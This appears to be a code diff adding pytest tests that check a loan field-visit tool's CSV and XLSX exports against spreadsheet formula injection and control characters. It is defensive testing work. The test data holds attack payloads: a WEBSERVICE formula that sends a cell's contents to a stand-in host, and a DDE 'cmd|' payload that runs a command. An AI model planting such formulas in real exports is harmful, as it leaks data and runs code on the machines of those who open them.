@@ -246,3 +246,91 @@ def test_export_reports_progress_as_it_streams(visited: Run, services: Any) -> N
     )
     assert seen == [1] and summary.rows == 1
     assert out.getvalue().count(b"\n") == 2
+
+
+FORMULA = '=WEBSERVICE("http://x/?"&F2)'
+
+
+@pytest.fixture
+def poisoned(office: Run) -> Run:
+    """Case 1's feedback summary is a formula; a note carries a form feed."""
+    from conftest import to_feedback
+
+    to_feedback(office)
+    result = office(
+        "feedback",
+        "1",
+        "--recommend",
+        "restructure",
+        "--summary",
+        FORMULA,
+        "--at",
+        "2026-11-25T18:00+08:00",
+        as_="li.na",
+    )
+    assert result.exit_code == 0, result.output
+    return office
+
+
+@pytest.mark.parametrize("attack", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(office: Run, attack: str) -> None:
+    from conftest import to_feedback
+
+    to_feedback(office)
+    summary = office(
+        "feedback",
+        "1",
+        "--recommend",
+        "restructure",
+        "--summary",
+        attack,
+        "--at",
+        "2026-11-25T18:00+08:00",
+        as_="li.na",
+    )
+    assert summary.exit_code == 0, summary.output
+    (row,) = export_csv(office)
+    assert row["feedback_summary"] == "'" + attack
+    # Amounts stay numbers: only text is quoted.
+    assert row["overdue_amount"] == "3150.40"
+
+
+def test_xlsx_cells_are_text_never_formulas(poisoned: Run, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    target = tmp_path / "visits.xlsx"
+    result = poisoned("export", "visits", "-o", str(target), *LATE, as_="chen.wei")
+    assert result.exit_code == 0, result.output
+    sheet = load_workbook(target).worksheets[0]
+    header = [c.value for c in sheet[1]]
+    cell = sheet.cell(row=2, column=header.index("feedback_summary") + 1)
+    assert cell.value == FORMULA and cell.data_type == "s"
+
+
+def test_a_control_character_in_a_note_does_not_break_the_workbook(
+    office: Run, tmp_path: Path
+) -> None:
+    from conftest import to_interview
+    from openpyxl import load_workbook
+
+    to_interview(office)
+    noted = office(
+        "interview",
+        "1",
+        "--met",
+        "borrower",
+        "--reason",
+        "medical",
+        "--note",
+        "page\x0cbreak",
+        "--at",
+        "2026-11-25T10:30+08:00",
+        as_="li.na",
+    )
+    assert noted.exit_code == 0, noted.output
+    target = tmp_path / "visits.xlsx"
+    result = office("export", "visits", "--unmasked", "-o", str(target), *LATE, as_="chen.wei")
+    assert result.exit_code == 0, result.output
+    sheet = load_workbook(target).worksheets[0]
+    header = [c.value for c in sheet[1]]
+    assert sheet.cell(row=2, column=header.index("notes") + 1).value == "page\ufffdbreak"
